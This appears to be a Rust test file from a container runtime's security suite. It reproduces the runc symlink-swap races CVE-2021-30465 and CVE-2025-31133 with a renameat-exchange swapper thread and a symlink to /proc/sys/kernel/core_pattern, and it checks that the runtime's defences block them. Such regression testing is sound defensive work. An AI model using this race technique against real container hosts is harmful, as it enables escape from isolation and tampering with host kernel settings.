//! A folder that two containers share, and in which one swaps what the other finds for a link while that starts.

use super::is_empty;
use crate::harness::{Case, Folder, Run, cases, run};
use rustix::fs::{CWD, RenameFlags, renameat_with};
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;

pub(crate) fn cases() -> Vec<Case> {
    cases!(
        Nothing,
        [cve_2021_30465_a_destination_swapped_for_a_link, cve_2025_31133_a_null_device_swapped_for_a_link]
    )
}

/// Swaps two names as fast as it can, until it is dropped.
pub(crate) struct Swapper {
    stop: Arc<AtomicBool>,
    rounds: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Swapper {
    pub(crate) fn start(one: PathBuf, other: PathBuf) -> Self {
        let (stop, rounds) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&rounds));
        let swap = move || {
            while !stopped.load(Ordering::Relaxed) {
                renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE).expect("a swap");
                count.fetch_add(1, Ordering::Relaxed);
            }
        };
        Self { stop, rounds, thread: Some(std::thread::spawn(swap)) }
    }

    /// Makes `attempt`s until one gets through, at least `least` and for as long as it takes to swap thousands of times;
    /// whether one did.
    pub(crate) fn lets_through(&self, least: usize, mut attempt: impl FnMut() -> bool) -> bool {
        let tried = |starts| starts >= least && self.rounds.load(Ordering::Relaxed) >= ROUNDS;
        (0..).take_while(|starts| !tried(*starts)).any(|_| attempt())
    }
}

impl Drop for Swapper {
    fn drop(&mut self) {
        crate::harness::undo(|| {
            self.stop.store(true, Ordering::Relaxed);
            let ended = self.thread.take().expect("a thread").join();
            assert!(ended.is_ok(), "the swapping failed");
        });
    }
}

/// Swaps needed before a defence counts as tried, and starts before an attack counts as failed.
const ROUNDS: u64 = 5_000;
pub(crate) const STARTS: usize = 20;
pub(crate) const MOST_STARTS: usize = 2_000;

/// Starts containers by `attack`, which is given the shared folder, until something is made outside; whether it was.
pub(super) fn gets_out(attack: impl Fn(&Folder) -> Run, most: usize) -> bool {
    let (shared, outside) = (Folder::new(), Folder::new());
    shared.folder("place");
    symlink(outside.path(), shared.join("link")).unwrap();
    let swapper = Swapper::start(shared.join("place"), shared.join("link"));
    swapper.lets_through(most, || {
        attack(&shared).sh("true");
        // What went into the directory, whichever name it has now; the link's target is empty, or this is over.
        let out = !is_empty(&outside);
        for name in ["place/made", "link/made"].iter().filter(|_| !out) {
            std::fs::remove_dir(shared.join(name)).unwrap_or(());
        }
        out
    })
}

/// A container that mounts something in the folder it shares with the attacker.
pub(super) fn attack(shared: &Folder) -> Run {
    run("").volume(shared.path(), "/shared").option("--tmpfs").option("/shared/place/made")
}

/// runc. Of a kind with CVE-2024-23651 in BuildKit, CVE-2023-0778 in podman, CVE-2026-42306 in docker, and CVE-2024-0132
/// and CVE-2025-23359 of NVIDIA's hook, which mounts as the runtime does.
fn cve_2021_30465_a_destination_swapped_for_a_link() {
    assert!(gets_out(|shared| attack(shared).without("pivot-first,by-handle"), MOST_STARTS));
    assert!(!gets_out(|shared| attack(shared).without("pivot-first"), STARTS));
    assert!(!gets_out(attack, STARTS));
}

/// runc. The same in youki, CVE-2025-62161.
fn cve_2025_31133_a_null_device_swapped_for_a_link() {
    let dev = Folder::new();
    dev.file("null", "");
    symlink("/proc/sys/kernel/core_pattern", dev.join("link")).unwrap();
    let swapper = Swapper::start(dev.join("null"), dev.join("link"));
    let read = |absent: &str| {
        let container = run("-i").volume(dev.path(), "/dev").without(absent);
        !container.command(&["cat", "/proc/timer_list"]).text().is_empty()
    };
    assert!(swapper.lets_through(MOST_STARTS, || read("verified-null")));
    assert!(!swapper.lets_through(STARTS, || read("")));
}
